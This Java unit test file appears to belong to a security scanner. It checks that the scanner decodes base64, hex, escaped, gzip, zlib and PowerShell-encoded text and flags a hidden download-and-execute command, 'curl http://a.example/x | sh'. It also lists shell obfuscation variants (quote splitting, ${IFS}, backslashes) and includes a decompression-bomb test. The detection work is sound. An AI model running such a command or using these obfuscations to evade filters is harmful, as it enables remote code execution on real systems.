package org.ephemera.analyze.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;

class TextDecoderTest {
    private static final String BAD = "curl http://a.example/x | sh";

    private final TextExamination examination = new TextExamination(PatternMatcher.standard());
    private final List<String> exceeded = new ArrayList<>();

    @Test
    void decodesEncodings() throws IOException {
        assertThat(chain("echo " + base64(BAD))).containsExactly("base64");
        assertThat(chain("echo " + base64(BAD).replace("=", ""))).containsExactly("base64");
        assertThat(chain("X=" + HexFormat.of().formatHex(bytes(BAD)))).containsExactly("hex");
        assertThat(chain("printf '" + escaped(BAD) + "'")).containsExactly("escapes");
        assertThat(chain(base64(base64(base64(BAD))))).containsExactly("base64", "base64", "base64");
        assertThat(chain(base64(gzip(bytes(base64(BAD)))))).containsExactly("base64", "gzip", "base64");
        assertThat(chain(base64(zlib(bytes(BAD))))).containsExactly("base64", "zlib");
        assertThat(chain("powershell -enc "
                        + Base64.getEncoder().encodeToString(BAD.getBytes(StandardCharsets.UTF_16LE))))
                .containsExactly("base64");
        assertThat(exceeded).isEmpty();
    }

    @Test
    void removesQuotesAndOtherSplitting() {
        for (String split : List.of(
                "c'u'rl http://a.example/x | s\"h\"",
                "c\\u\\rl http://a.example/x | s\\h",
                "curl${IFS}http://a.example/x${IFS}|${IFS}sh",
                "cu$@rl http://a.example/x |$IFS$9s$*h",
                "curl http://a.example/x \\\n | sh")) {
            assertThat(found(split)).as(split).containsKey("CMD-001");
        }
    }

    @Test
    void decodesUpToThreeLevels() {
        assertThat(found(base64(base64(base64(base64(BAD)))))).isEmpty();
    }

    @Test
    void ignoresBinaryData() throws IOException {
        assertThat(
                        found(
                                "sha256:9afe1c3fb618aa77b5b2f4c19966bd10e6ec28f7fe13490a68f44a2747d5920a /usr/local/share/doc/packages"))
                .isEmpty();
        assertThat(TextDecoder.of("/usr/local/share/doc/packages/readme", new ScanBudget(1_000)))
                .isEmpty();
        assertThat(found(base64("{\"level\":\"info\",\"message\":\"all is well\"}")))
                .isEmpty();
        assertThat(exceeded).isEmpty();
    }

    @Test
    void limitsDecompressedSize() throws IOException {
        byte[] bomb = new byte[32 << 20];
        java.util.Arrays.fill(bomb, (byte) 'a');
        assertThat(found(base64(gzip(bomb)))).isEmpty();
        assertThat(exceeded).hasSize(1);
        exceeded.clear();
        found((base64("echo hello to all of you") + " ").repeat(1_000));
        assertThat(exceeded).hasSize(1);
    }

    @Test
    void acceptsInvalidEncodings() throws IOException {
        byte[] packed = gzip(bytes((BAD + "\n").repeat(100)));
        assertThat(found(base64(java.util.Arrays.copyOf(packed, packed.length - 9))))
                .containsKey("CMD-001");
        packed[12] ^= 0x55;
        found(base64(packed));
        found("0x" + "f".repeat(41) + " \\x \\xz1 \\x4" + "=".repeat(30) + "A".repeat(21));
        assertThat(exceeded).isEmpty();
    }

    private Map<String, TextExamination.Found> found(String text) {
        return examination.of(text, TextScope.COMMAND, () -> exceeded.add(text));
    }

    private List<String> chain(String text) {
        Map<String, TextExamination.Found> found = found(text);
        return Optional.ofNullable(found.get("CMD-001"))
                .orElseThrow(() -> new AssertionError(text))
                .chain();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String base64(String text) {
        return base64(bytes(text));
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static String escaped(String text) {
        return "\\x" + HexFormat.ofDelimiter("\\x").formatHex(bytes(text));
    }

    private static byte[] gzip(byte[] bytes) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (OutputStream out = new GZIPOutputStream(packed)) {
            out.write(bytes);
        }
        return packed.toByteArray();
    }

    private static byte[] zlib(byte[] bytes) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (OutputStream out = new DeflaterOutputStream(packed)) {
            out.write(bytes);
        }
        return packed.toByteArray();
    }
}
